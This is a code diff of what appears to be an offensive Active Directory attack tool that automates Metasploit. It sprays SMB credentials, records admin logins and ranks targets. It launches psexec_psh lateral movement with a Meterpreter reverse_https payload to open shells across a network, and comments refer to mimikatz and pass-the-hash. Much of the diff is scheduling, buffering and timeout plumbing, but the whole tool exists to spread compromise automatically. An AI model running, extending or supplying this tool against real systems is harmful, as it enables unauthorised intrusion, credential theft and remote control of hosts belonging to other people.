-    cmd, output, err = await run_smb_login(client, c_id, lhost, threads, user, pwd, dom, target_ips)
+    attempts.start_attempt(creds, hosts)
+    completed = False
+    try:
+        with host_files.use(filename, hosts) as target_ips:
+            async with consoles.borrow() as c_id:
+                cmd, output, err = await run_smb_login(client, consoles, c_id, threads, user, pwd, dom, target_ips)
+        completed = not err
 
-    await parse_module_output(lock, c_id, err, cmd, output, domain_data)
+        with output:
+            await parse_module_output(lock, c_id, err, cmd, output, domain_data)
+    finally:
+        attempts.end_attempt(creds, hosts, completed)
+        if not completed and attempts.spray_failed(creds, args.spray_retries):
+            queue_work(domain_data, WORK_CREDS, creds)
 
 async def get_admin_session_data(lock, sess_data, domain_data):
 
     # Get all session IPs and figure out if they're admin shells so we don't overlap our spread
     admin_sess_data = {}
-    with await lock:
+    async with lock:
         for sess_num in sess_data:
             ip = sess_data[sess_num][b'tunnel_peer'].split(b':')[0]
             utf8_ip = ip.decode('utf8')
-            if b'admin_shell' not in sess_data[sess_num]:
+            if b'admin_shell' not in sess_data[sess_num] or b'gone' in sess_data[sess_num]:
                 continue
 
             # In case we have multiple shells on the same IP, we must collect
@@ -1102,44 +1944,73 @@ async def get_admin_session_data(lock, sess_data, domain_data):
 
     return admin_sess_data
 
-async def get_new_shells(lock, client, c_ids, lhost, sess_data, domain_data, dom_data_copy):
+async def get_new_shells(lock, client, consoles, sess_data, domain_data, dom_data_copy):
 
     admin_session_data = await get_admin_session_data(lock, sess_data, domain_data)
 
-    c_id = await get_nonbusy_cid(client, c_ids)
-
     # run psexec_psh on all ips that we either don't have a shell on already or don't have an admin shell on
-    # dom_data_copy['checked_creds']['LAB\\dan:P@ssw0rd'] = [list of ips we have admin for those creds]
-    for creds in dom_data_copy['checked_creds']:
-        for admin_ip in dom_data_copy['checked_creds'][creds]:
-            bytes_admin_ip = admin_ip.encode()
-
-            # Shells take a minute to open so we don't want to double up on shells while they open
-            if admin_ip not in domain_data['pending_shell_ips']:
-
-                # Check if the IP we have admin on already has a session
-                if bytes_admin_ip in admin_session_data:
-
-                    # If we have a shell on it but we're not admin, then continue get admin shell
-                    # admin_shell_vals = [b'True', b'False', b'True'] depending on how many shells we have on that IP
-                    # Making design decision here to not check if the session is broken or not because it's too easy
-                    # for that to lead to infinite loops of spreading with broken sess after broken sess
-                    admin_shell_vals = [x for x in admin_session_data[bytes_admin_ip]]
-                    if b'True' in admin_shell_vals:
-                        continue
+    # using admin creds we haven't already tried to open a shell with there, best targets first
+    attempts = domain_data['attempts']
+    score = target_scorer(domain_data, get_admin_ips(sess_data))
+    for creds, admin_ip in sorted(attempts.unlaunched(), key=lambda x: score(x[1]), reverse=True):
+        if not psexec_allowed(creds):
+            continue
 
-                # Either we don't have this IP in our session, or there's no admin session open on it
-                await run_psexec_psh(lock, client, c_id, creds, admin_ip, lhost, domain_data)
-#                await get_shell_wmic(lock, client, c_id, creds, admin_ip, lhost, domain_data)
+        bytes_admin_ip = admin_ip.encode()
+
+        # Shells take a minute to open so we don't want to double up on shells while they open
+        if admin_ip in domain_data['pending_shell_ips']:
+            continue
+
+        # Check if the IP we have admin on already has a session
+        if bytes_admin_ip in admin_session_data:
+
+            # If we have a shell on it but we're not admin, then continue get admin shell
+            # admin_shell_vals = [b'True', b'False', b'True'] depending on how many shells we have on that IP
+            # Making design decision here to not check if the session is broken or not because it's too easy
+            # for that to lead to infinite loops of spreading with broken sess after broken sess
+            admin_shell_vals = [x for x in admin_session_data[bytes_admin_ip]]
+            if b'True' in admin_shell_vals:
+                continue
 
-async def run_psexec_psh(lock, client, c_id, creds, ip, lhost, domain_data):
+        # Either we don't have this IP in our session, or there's no admin session open on it
+        # It's pending from now on so a queued attempt isn't queued twice
+        domain_data['pending_shell_ips'].append(admin_ip)
+        attempts.mark_launched(creds, admin_ip)
+        spread_workers.submit(admin_ip, run_psexec_psh(lock, client, consoles, creds, admin_ip, domain_data),
+                              priority=-score(admin_ip))
+#        await get_shell_wmic(lock, client, c_id, creds, admin_ip, domain_data)
+
+def psexec_allowed(creds):
     dom, user, pwd, rid = parse_creds(creds)
 
     # Skip non-RID 500 local logins for now
     # Move this later on so we can PTH of domain admins we find - debug
     if dom == '.':
         if rid != '500':
+            return False
+
+    return True
+
+MSF_PAYLOAD = 'windows/x64/meterpreter/reverse_https'
+
+async def run_psexec_psh(lock, client, consoles, creds, ip, domain_data):
+    dom, user, pwd, rid = parse_creds(creds)
+
+    print_info('Performing lateral movement with credentials [{}:{}] against host [{}]'.format(user, pwd, ip), None, None)
+
+    if not args.console_modules:
+        opts = {'RHOST': ip,
+                'PAYLOAD': MSF_PAYLOAD,
+                'SMBUser': user,
+                'SMBPass': pwd,
+                'SMBDomain': dom}
+        res, err = await module_jobs.execute('exploit', 'windows/smb/psexec_psh', opts)
+        if not err:
+            opened = await parse_psexec_psh_job(lock, client, res, user, ip, domain_data)
+            await end_psexec_psh(lock, creds, ip, opened, domain_data)
             return
+        print_bad('module.execute failed, falling back to a console: {}'.format(err), None, None)
 
     mod = 'exploit/windows/smb/psexec_psh'
     rhost_var = 'RHOST'
@@ -1149,24 +2020,54 @@ async def run_psexec_psh(lock, client, c_id, creds, ip, lhost, domain_data):
                   'set smbdomain {}'.format(user, pwd, dom))
     end_strs = [b'[*] Meterpreter session ']
 
-    domain_data['pending_shell_ips'].append(ip)
-    print_info('Performing lateral movement with credentials [{}:{}] against host [{}]'.format(user, pwd, ip), 'Console', c_id)
-    cmd, output, err = await run_msf_module(client, c_id, mod, rhost_var, ip, lhost, extra_opts, start_cmd, end_strs)
-    await parse_module_output(lock, c_id, err, cmd, output, domain_data)
+    async with consoles.borrow() as c_id:
+        cmd, output, err = await run_msf_module(client, consoles, c_id, mod, rhost_var, ip, extra_opts, start_cmd, end_strs)
+    with output:
+        opened = await parse_module_output(lock, c_id, err, cmd, output, domain_data)
+    await end_psexec_psh(lock, creds, ip, opened, domain_data)
+
+async def end_psexec_psh(lock, creds, ip, opened, domain_data):
+    ''' A failed psexec, timed out job or missing session shouldn't retire
+    the creds/host pair, so give it back to get_new_shells a few times '''
+    if opened:
+        return
+    if domain_data['attempts'].launch_failed(creds, ip, args.shell_retries):
+        print_info('Will retry a shell on [{}]'.format(ip), None, None)
+    # Also requeues the IP now that the pair can be picked again
+    await remove_pending_ip(lock, ip, domain_data)
+
+async def parse_psexec_psh_job(lock, client, res, user, ip, domain_data):
+    ''' Sessions opened by a job carry the job's uuid as their exploit_uuid '''
+    job_id = res[b'job_id']
+    uuid = res[b'uuid']
+
+    msf_sessions = await client.call('session.list')
+    for msf_sess_num, msf_sess in msf_sessions.items():
+        if msf_sess.get(b'exploit_uuid') == uuid:
+            print_good('Successfully opened new shell with admin [{}] on [{}]'.format(user, ip), 'Job', convert_num(job_id))
+            queue_work(domain_data, WORK_SESSION, msf_sess_num)
+            return msf_sess_num
+
+    print_bad('No session was created on [{}]'.format(ip), 'Job', convert_num(job_id))
+    await remove_pending_ip(lock, ip, domain_data)
 
 async def parse_module_output(lock, c_id, err, cmd, output, domain_data):
     if 'smb_login' in cmd:
         await parse_smb_login(lock, c_id, output, domain_data)
     elif 'psexec_psh' in cmd:
-        await parse_psexec_psh(lock, c_id, err, cmd, output, domain_data)
+        return await parse_psexec_psh(lock, c_id, err, cmd, output, domain_data)
 
 async def remove_pending_ip(lock, ip, domain_data):
-    with await lock:
+    async with lock:
         if ip in domain_data['pending_shell_ips']:
             domain_data['pending_shell_ips'].remove(ip)
 
+    # The shell attempt is over, spread() decides whether to try again
+    queue_work(domain_data, WORK_SESSION, ip)
+
 async def parse_psexec_psh(lock, c_id, err, cmd, output, domain_data):
     user = None
+    opened = False
 
     for l in cmd.splitlines():
         if 'RHOST' in l:
@@ -1180,7 +2081,7 @@ async def parse_psexec_psh(lock, c_id, err, cmd, output, domain_data):
         await remove_pending_ip(lock, ip, domain_data)
 
     else:
-        for l in output.splitlines():
+        for l in output.lines():
             l = l.strip().decode('utf8')
             if 'smbuser =>' in l:
                 user = l.split()[-1]
@@ -1188,9 +2089,13 @@ async def parse_psexec_psh(lock, c_id, err, cmd, output, domain_data):
                 l_split = l.split()
                 ip = l_split[7][:-1].split(':')[0]
                 print_good('Successfully opened new shell with admin [{}] on [{}]'.format(user, ip), 'Console', c_id)
+                queue_work(domain_data, WORK_SESSION, ip)
+                opened = True
             elif 'no session was created' in l:
                 await remove_pending_ip(lock, ip, domain_data)
 
+    return opened
+
 async def create_user_pwd_creds(lock, user, pwd, dom, domain_data):
     '''Parse out the username and domain
     When PTH with RID 500, the domain will just say "."
@@ -1203,7 +2108,7 @@ async def create_user_pwd_creds(lock, user, pwd, dom, domain_data):
 
     # PTH user
     else:
-        with await lock:
+        async with lock:
             for c in domain_data['creds']:
                 if user in c and pwd in c:
                     user_pwd = user+':'+pwd
@@ -1220,12 +2125,10 @@ async def parse_smb_login(lock, c_id, output, domain_data):
     creds = None
     admin_found = False
 
-    if output:
-        out_split = output.splitlines()
-    else:
-        return 
+    if not output:
+        return
 
-    for l in out_split:
+    for l in output.lines():
         l = l.strip().decode('utf8')
 
         if 'smbuser' in l:
@@ -1243,6 +2146,7 @@ async def parse_smb_login(lock, c_id, output, domain_data):
             if not creds:
                 print_bad('Found successful login, but unable to parse domain, user and password', 'Console', c_id)
                 print_bad('    '+l, 'Console', c_id)
+                continue
 
             ip_port = l.split()[1]
             ip = ip_port.split(':')[0]
@@ -1254,12 +2158,12 @@ async def parse_smb_login(lock, c_id, output, domain_data):
                                 None, None)
 #                    end_script()
 
-                # IP will only be in there if the creds are admin on the box
-                # checked_creds is only appended to by spread() future
-                if ip in domain_data['checked_creds'][creds]:
+                # Only admin logins are recorded as successes
+                if domain_data['attempts'].is_admin(creds, ip):
                     continue
 
-                domain_data['checked_creds'][creds].append(ip)
+                domain_data['attempts'].mark_admin(creds, ip)
+                queue_work(domain_data, WORK_ADMIN, (creds, ip))
                 print_good('Admin login found! [{} - {}]'.format(ip, user_pwd), 'Console', c_id)
                 admin_found = True
 
@@ -1272,22 +2176,88 @@ async def parse_smb_login(lock, c_id, output, domain_data):
         else:
             print_bad('Failed to parse smb_login output', 'Console', c_id)
 
-def create_hostsfile(dom_data_copy, filename, domain_data_key):
+class HostFiles:
+    '''
+    Host list files for RHOSTS named after a hash of their contents, so the
+    same set of hosts is written once and shared by every module run that
+    uses it. Files are refcounted and a file is removed once nothing holds
+    it and a different set has replaced it under the same name. Reuse comes
+    from the DCs file every domain admin check sprays; spray files list each
+    creds' untested hosts so they rarely repeat, and a repeat costs a hash
+    '''
+
+    def __init__(self, work_dir=None):
+        self.owns_dir = work_dir is None
+        if work_dir is None:
+            work_dir = tempfile.mkdtemp(prefix='msfbot-work-')
+        else:
+            os.makedirs(work_dir, exist_ok=True)
+        self.work_dir = os.path.abspath(work_dir)
+        # digest: {'path': str, 'refs': int}
+        self.files = {}
+        # name: digest of the newest set written under that name
+        self.current = {}
+
+    def acquire(self, name, hosts):
+        content = ''.join(ip+'\n' for ip in hosts).encode()
+        digest = hashlib.sha1(content).hexdigest()
+
+        if digest not in self.files:
+            path = os.path.join(self.work_dir, '{}-{}.txt'.format(name, digest[:16]))
+            with open(path, 'wb') as f:
+                f.write(content)
+            self.files[digest] = {'path': path, 'refs': 0}
+        self.files[digest]['refs'] += 1
+
+        previous = self.current.get(name)
+        self.current[name] = digest
+        if previous and previous != digest:
+            self.remove_unused(previous)
+
+        return 'file:'+self.files[digest]['path']
+
+    def release(self, target_ips):
+        path = target_ips[len('file:'):]
+        for digest, entry in list(self.files.items()):
+            if entry['path'] == path:
+                entry['refs'] -= 1
+                self.remove_unused(digest)
+                break
+
+    def remove_unused(self, digest):
+        entry = self.files[digest]
+        if entry['refs'] > 0 or digest in self.current.values():
+            return
+        with contextlib.suppress(OSError):
+            os.remove(entry['path'])
+        del self.files[digest]
+
+    @contextlib.contextmanager
+    def use(self, name, hosts):
+        target_ips = self.acquire(name, hosts)
+        try:
+            yield target_ips
+        finally:
+            self.release(target_ips)
 
-    identifier = ''.join(random.choice(string.ascii_letters) for x in range(7))
-    fname = '{}-{}.txt'.format(filename, identifier)
-    with open(fname, 'w') as f:
-        for ip in dom_data_copy[domain_data_key]:
-            f.write(ip+'\n')
+    def cleanup(self):
+        for entry in self.files.values():
+            with contextlib.suppress(OSError):
+                os.remove(entry['path'])
+        self.files = {}
+        self.current = {}
+        if self.owns_dir:
+            shutil.rmtree(self.work_dir, ignore_errors=True)
 
-    return 'file:'+os.getcwd()+'/'+fname
+# Set up by main() from the --work-dir arg
+host_files = None
 
-async def attack(lock, client, sess_num, sess_data, domain_data):
+async def attack(lock, client, consoles, sess_num, sess_data, domain_data):
 
     # Is admin
     if sess_data[sess_num][b'admin_shell'] == b'True':
         # mimikatz, spray, PTH RID 500
-        await get_passwords(lock, client, sess_num, sess_data, domain_data)
+        await get_passwords(lock, client, consoles, sess_num, sess_data, domain_data)
 
     # Not admin
     elif sess_data[sess_num][b'admin_shell'] == b'False':
@@ -1315,9 +2285,9 @@ async def attack(lock, client, sess_num, sess_data, domain_data):
 
 
 
-def get_output(client, sess_num):
+async def get_output(client, sess_num):
     sess_num_str = str(sess_num)
-    output = client.call('session.meterpreter_read', [sess_num_str])
+    output = await client.call('session.meterpreter_read', [sess_num_str])
 
     # Everythings fine
     if b'data' in output:
@@ -1328,39 +2298,501 @@ def get_output(client, sess_num):
         decoded_err = output[b'error_message'].decode('utf8')
         return (None, decoded_err)
 
-def get_output_errors(output, cmd):
+class OutputBuffer:
+    '''
+    Accumulates command output without re-copying it on every append. Output
+    is kept in a bytearray up to mem_cap bytes, after which everything is moved
+    to an anonymous temp file so a module or userhunter dumping megabytes
+    across many sessions doesn't grow memory. Parsers should use lines() which
+    yields one line at a time from either backing store. Use it as a context
+    manager or call close() so a spilled temp file is closed right away
+    '''
+
+    def __init__(self, mem_cap):
+        self.mem_cap = mem_cap
+        self.data = bytearray()
+        self.file = None
+        self.size = 0
+
+    def append(self, chunk):
+        if not chunk:
+            return
+        if self.file is None and self.size + len(chunk) > self.mem_cap:
+            self.file = tempfile.TemporaryFile(prefix='msfbot-output-')
+            self.file.write(self.data)
+            self.data = bytearray()
+        if self.file is None:
+            self.data += chunk
+        else:
+            # lines() may have left the file position anywhere
+            self.file.seek(0, os.SEEK_END)
+            self.file.write(chunk)
+        self.size += len(chunk)
+
+    def __len__(self):
+        return self.size
+
+    def __bool__(self):
+        return self.size > 0
+
+    def __bytes__(self):
+        if self.file is None:
+            return bytes(self.data)
+        self.file.seek(0)
+        return self.file.read()
+
+    def getvalue(self):
+        return bytes(self)
+
+    def lines(self):
+        ''' Lines split on \\n with any trailing \\r removed '''
+        if self.file is None:
+            data = self.data
+            start = 0
+            while start < len(data):
+                end = data.find(b'\n', start)
+                if end == -1:
+                    end = len(data)
+                yield bytes(data[start:end]).rstrip(b'\r')
+                start = end + 1
+        else:
+            self.file.seek(0)
+            for l in self.file:
+                if l.endswith(b'\n'):
+                    l = l[:-1]
+                yield l.rstrip(b'\r')
+
+    def close(self):
+        if self.file is not None:
+            self.file.close()
+            self.file = None
+        self.data = bytearray()
+        self.size = 0
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, exc_type, exc, tb):
+        self.close()
+
+# Lower runs first, FIFO within the same priority
+SESSION_PRIORITY_RECON = 0
+SESSION_PRIORITY_DEFAULT = 1
+SESSION_PRIORITY_BACKGROUND = 2
+
+class SessionScheduler:
+    '''
+    Gives one task at a time exclusive use of a meterpreter session. Waiters
+    are queued by (priority, arrival) and the next one is handed the session
+    as soon as the owner releases it. The owning task can claim it again, so
+    a block like start_shell ... end_shell can call helpers that claim per
+    command
+    '''
+
+    def __init__(self):
+        self.owner = None
+        self.depth = 0
+        self.waiters = []
+        self.counter = 0
+
+    @property
+    def busy(self):
+        return self.owner is not None
+
+    async def acquire(self, priority=SESSION_PRIORITY_DEFAULT):
+        task = current_task()
+        if self.owner is task:
+            self.depth += 1
+            return
+
+        if self.owner is None and not self.waiters:
+            self.owner = task
+            self.depth = 1
+            return
+
+        fut = asyncio.get_event_loop().create_future()
+        heapq.heappush(self.waiters, (priority, self.counter, fut, task))
+        self.counter += 1
+        try:
+            await fut
+        except asyncio.CancelledError:
+            # Handed the session just as we were cancelled
+            if fut.done() and not fut.cancelled():
+                self.release()
+            raise
+
+    def release(self):
+        self.depth -= 1
+        if self.depth > 0:
+            return
+
+        self.owner = None
+        while self.waiters:
+            priority, counter, fut, task = heapq.heappop(self.waiters)
+            # Cancelled waiters are skipped
+            if fut.done():
+                continue
+            self.owner = task
+            self.depth = 1
+            fut.set_result(None)
+            break
+
+    def claim(self, priority=SESSION_PRIORITY_DEFAULT):
+        return SessionClaim(self, priority)
+
+class SessionClaim:
+    '''
+    async with wrapper around SessionScheduler.acquire/release
+    '''
+
+    def __init__(self, scheduler, priority):
+        self.scheduler = scheduler
+        self.priority = priority
+
+    async def __aenter__(self):
+        await self.scheduler.acquire(self.priority)
+        return self.scheduler
 
-    script_errors = [b'[-] post failed',
-                     b'error in script',
-                     b'operation failed',
-                     b'unknown command',
-                     b'operation timed out',
-                     b'unknown session id',
-                     b'error running',
-                     b'failed to load extension',
-                     b'requesterror',
-                     b'is not a valid option for this module',
-                     b'is not recognized as an',
-                     b'exploit failed: rex::',
-                     b'error:     + fullyqualifiederrorid : ']
+    async def __aexit__(self, exc_type, exc, tb):
+        self.scheduler.release()
+
+def current_task():
+    task_func = getattr(asyncio, 'current_task', None) or asyncio.Task.current_task
+    return task_func()
+
+def get_session_scheduler(sess_num, sess_data):
+    if b'scheduler' not in sess_data[sess_num]:
+        sess_data[sess_num][b'scheduler'] = SessionScheduler()
+    return sess_data[sess_num][b'scheduler']
+
+def claim_session(sess_num, sess_data, priority=SESSION_PRIORITY_DEFAULT):
+    return get_session_scheduler(sess_num, sess_data).claim(priority)
+
+class SessionOutput:
+    '''
+    Per-session output channel. read_session_output is the only task that
+    calls session.meterpreter_read; it pushes (data, err) tuples onto the
+    queue of every session with at least one subscribed command, backing
+    off between empty reads the same way for every session. Output that
+    arrives once nobody is subscribed is stale and dropped
+    '''
+
+    # Set by read_session_output, wakes it when a command starts waiting
+    subscribed = None
+
+    def __init__(self):
+        self.queue = asyncio.Queue()
+        self.readers = 0
+        self.interval = args.poll_min
+        self.next_read = 0
+        # Set while read_session_output has a meterpreter_read in flight
+        self.reading = None
+
+    def subscribe(self):
+        self.readers += 1
+        self.interval = args.poll_min
+        self.next_read = time.time() + args.poll_min
+        if SessionOutput.subscribed:
+            SessionOutput.subscribed.set()
+
+    def unsubscribe(self):
+        self.readers -= 1
+
+    def is_due(self, now):
+        return self.readers > 0 and now >= self.next_read
+
+    def put(self, output, err):
+        if (output or err) and self.readers > 0:
+            self.queue.put_nowait((output, err))
+            self.interval = args.poll_min
+        else:
+            self.interval = min(self.interval * args.poll_factor, args.poll_max)
+        self.next_read = time.time() + self.interval
+
+    async def get(self, timeout):
+        try:
+            return await asyncio.wait_for(self.queue.get(), timeout)
+        except asyncio.TimeoutError:
+            return (b'', None)
+
+    def drain(self):
+        while not self.queue.empty():
+            self.queue.get_nowait()
+
+def get_session_output(sess_num, sess_data):
+    if b'output' not in sess_data[sess_num]:
+        sess_data[sess_num][b'output'] = SessionOutput()
+    return sess_data[sess_num][b'output']
+
+async def clear_session_output(client, sess_num, sess_data):
+    sess_output = get_session_output(sess_num, sess_data)
+    # A read already in flight would land after the drain and be handed
+    # to the next command, and must not race a direct read either
+    if sess_output.reading:
+        await sess_output.reading.wait()
+    sess_output.drain()
+    # Only read directly when the reader task isn't polling this session
+    if sess_output.readers == 0:
+        await get_output(client, sess_num)
+
+async def read_one_session(client, sess_num, sess_output):
+    reading = sess_output.reading = asyncio.Event()
+    try:
+        try:
+            output, err = await get_output(client, sess_num)
+        except Exception as e:
+            output, err = None, str(e)
+        sess_output.put(output, err)
+    finally:
+        sess_output.reading = None
+        reading.set()
+
+async def read_session_output(client, sess_data):
+    '''
+    Single reader for every session's meterpreter output, one sweep of
+    session.meterpreter_read per tick over the sessions with waiting commands.
+    Sleeps until the next subscribe() while no command is waiting
+    '''
+    SessionOutput.subscribed = asyncio.Event()
+    while True:
+        now = time.time()
+        due = []
+        waiting = False
+        SessionOutput.subscribed.clear()
+        for sess_num in list(sess_data):
+            sess_output = sess_data[sess_num].get(b'output')
+            if sess_output and sess_output.readers > 0:
+                waiting = True
+                if sess_output.is_due(now):
+                    due.append(read_one_session(client, sess_num, sess_output))
+
+        if not waiting:
+            await SessionOutput.subscribed.wait()
+            continue
+
+        if due:
+            await asyncio.gather(*due)
+
+        await asyncio.sleep(args.poll_min)
+
+SCRIPT_ERRORS = [b'[-] post failed',
+                 b'error in script',
+                 b'operation failed',
+                 b'unknown command',
+                 b'operation timed out',
+                 b'unknown session id',
+                 b'error running',
+                 b'failed to load extension',
+                 b'requesterror',
+                 b'is not a valid option for this module',
+                 b'is not recognized as an',
+                 b'exploit failed: rex::',
+                 b'error:     + fullyqualifiederrorid : ']
+
+SCRIPT_ERRORS_RE = re.compile(b'|'.join(re.escape(e) for e in SCRIPT_ERRORS), re.IGNORECASE)
+
+MatchResult = namedtuple('MatchResult', ['status', 'match'])
+
+class OutputMatcher:
+    '''
+    Watches streamed command output for end markers and error signatures in
+    one pass. Each chunk is only scanned once, together with the last few
+    bytes of the previous one so a marker split across two reads is still
+    found. feed() returns a MatchResult once the command has completed or
+    errored, errors taking precedence like get_output_errors, and callers
+    whose deadline passed first get timeout()'s. match is the end marker
+    found or, for errors, the SCRIPT_ERRORS signature that was hit
+    '''
+    COMPLETED = 'completed'
+    ERROR = 'error'
+    TIMEOUT = 'timeout'
+
+    def __init__(self, end_strs, errors=True):
+        self.end_strs = end_strs
+        self.errors = errors
+        self.end_re = None
+        if end_strs:
+            self.end_re = re.compile(b'|'.join(re.escape(e) for e in end_strs))
+        patterns = list(end_strs or [])
+        if errors:
+            patterns += SCRIPT_ERRORS
+        self.overlap = max([len(p) for p in patterns] or [1]) - 1
+        self.tail = b''
+
+    def feed(self, chunk):
+        if not chunk:
+            return None
+        window = self.tail + chunk
+        self.tail = window[-self.overlap:] if self.overlap else b''
+
+        if self.errors:
+            m = SCRIPT_ERRORS_RE.search(window)
+            if m:
+                return MatchResult(self.ERROR, m.group(0).lower())
+
+        # If no end_strs specified just return once we have any data
+        if self.end_re is None:
+            return MatchResult(self.COMPLETED, None)
+
+        m = self.end_re.search(window)
+        if m:
+            return MatchResult(self.COMPLETED, m.group(0))
+
+        return None
+
+    def timeout(self):
+        return MatchResult(self.TIMEOUT, None)
+
+def command_kind(cmd):
+    '''
+    Groups commands for timeout learning, e.g.
+    run post/windows/gather/win_privs -> win_privs
+    powershell_execute 'Find-DomainUserLocation > ...' -> powershell_execute Find-DomainUserLocation
+    A run_shell_cmds batch is keyed by its length and the kind of every
+    command in it, e.g. two domain admin lookups ->
+    batch 2: wmic path win32_groupuser, wmic path win32_groupuser
+    '''
+    lines = cmd.splitlines()
+    if any(l.startswith('echo MSF^BOT-') for l in lines):
+        cmds = [l for l in lines if l.strip() and not l.startswith('echo MSF^BOT-')]
+        return 'batch {}: {}'.format(len(cmds), ', '.join(single_command_kind(c) for c in cmds))
+    return single_command_kind(cmd)
+
+def single_command_kind(cmd):
+    cmd_split = cmd.split()
+    if not cmd_split:
+        return ''
+    kind = cmd_split[0]
+    if kind in ('run', 'use') and len(cmd_split) > 1:
+        return cmd_split[1].split('/')[-1]
+    if kind == 'powershell_execute' and len(cmd_split) > 1:
+        return '{} {}'.format(kind, cmd_split[1].strip('\'"'))
+    if kind == 'wmic' and len(cmd_split) > 1:
+        if cmd_split[1].lower() == 'path' and len(cmd_split) > 2:
+            return ' '.join(cmd_split[:3])
+        return ' '.join(cmd_split[:2])
+    return kind
+
+class TimeoutProfiles:
+    '''
+    Learns how long each kind of command takes to complete and derives its
+    timeout from that, the same way TCP derives its retransmission timeout:
+    smoothed time plus four times the smoothed deviation, or twice the recent
+    95th percentile if that's longer, clamped to [floor, ceiling]. Kinds with
+    too few samples use the default. Timeouts are recorded as well so an
+    estimate that's too short grows back
+    '''
+    ALPHA = 0.125
+    BETA = 0.25
+    MIN_SAMPLES = 3
+    MAX_SAMPLES = 100
+
+    def __init__(self, floor, ceiling, path=None, default=60):
+        self.floor = floor
+        self.ceiling = ceiling
+        self.path = path
+        self.default = default
+        self.kinds = {}
+        if path and os.path.exists(path):
+            self.load()
+
+    def profile(self, kind):
+        if kind not in self.kinds:
+            self.kinds[kind] = {'count': 0,
+                                'mean': 0.0,
+                                'dev': 0.0,
+                                'samples': deque(maxlen=self.MAX_SAMPLES)}
+        return self.kinds[kind]
+
+    def record(self, kind, secs):
+        if kind is None:
+            return
+        p = self.profile(kind)
+        if p['count'] == 0:
+            p['mean'] = secs
+            p['dev'] = secs / 2
+        else:
+            p['dev'] += self.BETA * (abs(secs - p['mean']) - p['dev'])
+            p['mean'] += self.ALPHA * (secs - p['mean'])
+        p['count'] += 1
+        p['samples'].append(secs)
+
+    def record_timeout(self, kind, secs):
+        ''' A command that timed out took at least secs, which would never
+        raise the estimate, so like TCP backing off its RTO after a timeout
+        count it as twice that '''
+        self.record(kind, min(2 * secs, self.ceiling))
+
+    def percentile(self, kind, pct):
+        samples = sorted(self.kinds[kind]['samples'])
+        return samples[int(pct * (len(samples) - 1))]
+
+    def timeout_for(self, kind):
+        p = self.kinds.get(kind)
+        if p is None or p['count'] < self.MIN_SAMPLES:
+            return self.default
+        estimate = max(p['mean'] + 4 * p['dev'], 2 * self.percentile(kind, 0.95))
+        return min(max(estimate, self.floor), self.ceiling)
+
+    def load(self):
+        try:
+            with open(self.path) as f:
+                saved = json.load(f)
+        except (OSError, ValueError) as e:
+            print_bad('Failed to load timeout profile {}: {}'.format(self.path, e), None, None)
+            return
+        for kind, p in saved.items():
+            profile = self.profile(kind)
+            profile['count'] = p['count']
+            profile['mean'] = p['mean']
+            profile['dev'] = p['dev']
+            profile['samples'].extend(p['samples'])
+
+    def save(self):
+        if not self.path:
+            return
+        saved = {}
+        for kind, p in self.kinds.items():
+            saved[kind] = {'count': p['count'],
+                           'mean': p['mean'],
+                           'dev': p['dev'],
+                           'samples': list(p['samples']),
+                           'timeout': self.timeout_for(kind)}
+        with open(self.path, 'w') as f:
+            json.dump(saved, f, indent=2)
+
+# Set up by main() from the --timeout-* args
+timeout_profiles = None
+
+def format_output_error(output, cmd):
+    return 'Command [{}] failed with error: {}'.format(cmd.splitlines()[0], bytes(output).decode('utf8').strip())
+
+def timeout_error(cmd):
+    return 'Command [{}] timed out'.format(cmd.strip())
+
+def is_timeout_error(err):
+    return err.startswith('Command [') and err.endswith('] timed out')
+
+def get_output_errors(output, cmd):
     err = None
 
-    # Got an error from output
-    if any(x in output.lower() for x in script_errors):
-        err = 'Command [{}] failed with error: {}'.format(cmd.splitlines()[0], output.decode('utf8').strip())
+    # Got an error from output, none of the signatures span lines
+    if any(SCRIPT_ERRORS_RE.search(l) for l in output.lines()):
+        err = format_output_error(output, cmd)
 
     return err
 
 def error_printing(sess_num, sess_data, err, cmd):
     ''' We have to handle powershell errors a lot different than regular MSF error '''
     no_print_errs = ['powershell_execute: operation failed: 2148734468',
-                     'error running command powershell_execute: rex::timeouterror operation timed out']
+                     'error running command powershell_execute: rex::timeouterror operation timed out',
+                     'stdapi_fs_stat: operation failed']
     allowed_to_timeout = ['find-domainuserlocation', 'rm "']
 
     if not any(e in err.lower() for e in no_print_errs):
         # Find-DomainUserLocation and "rm" are allowed to timeout
         # don't print it or add the error to the session
-        if 'Command [' in err and '] timed out' in err:
+        if is_timeout_error(err):
             if any(x in cmd.lower() for x in allowed_to_timeout):
                 return
 
@@ -1376,104 +2808,170 @@ def error_printing(sess_num, sess_data, err, cmd):
                 sess_data[sess_num][b'errors'].append(err)
                 print_bad(err, 'Session', sess_num)
 
-async def run_session_cmd(client, sess_num, sess_data, cmd, end_strs, api_call='run_single', timeout=60):
+async def run_session_cmd(client, sess_num, sess_data, cmd, end_strs, api_call='run_single', timeout=None,
+                          priority=SESSION_PRIORITY_DEFAULT):
 
-    err = None
-    output = None
-    error_msg = 'Error in session {}: {}'
-    sess_num_str = str(sess_num)
-
-    print_info('Running [{}]'.format(cmd.strip()), 'Session', sess_num)
-
-    res = client.call('session.meterpreter_{}'.format(api_call), [str(sess_num), cmd])
-    long_running_psh = ['Find-DomainUserLocation']
+    # Callers that already hold the session for a block claim it again for free
+    async with claim_session(sess_num, sess_data, priority):
+        err = None
+        output = None
+        full_output = OutputBuffer(args.output_mem_cap)
+        error_msg = 'Error in session {}: {}'
+        sess_num_str = str(sess_num)
 
-    # Error from MSF API
-    if b'error_message' in res:
-        err_msg = res[b'error_message'].decode('utf8')
-        print_bad(error_msg.format(sess_num_str, err_msg), 'Session', sess_num)
-        sess_data[sess_num][b'errors'].append(err_msg)
-        return (None, err_msg)
+        print_info('Running [{}]'.format(cmd.strip()), 'Session', sess_num)
 
-    # Successfully completed MSF API call
-    elif res[b'result'] == b'success':
+        kind = command_kind(cmd)
+        if timeout is None:
+            timeout = timeout_profiles.timeout_for(kind)
 
-        counter = 0
-        sleep_secs = 1
-        full_output = b''
+        # read_session_output only polls sessions that have someone waiting
+        sess_output = get_session_output(sess_num, sess_data)
+        sess_output.subscribe()
 
         try:
-            num_es = 1
-            while True:
-                await asyncio.sleep(sleep_secs)
+            res = await client.call('session.meterpreter_{}'.format(api_call), [str(sess_num), cmd])
 
-                output, err = get_output(client, sess_num)
-                if output:
-                    full_output += output
+            # Error from MSF API
+            if b'error_message' in res:
+                err_msg = res[b'error_message'].decode('utf8')
+                print_bad(error_msg.format(sess_num_str, err_msg), 'Session', sess_num)
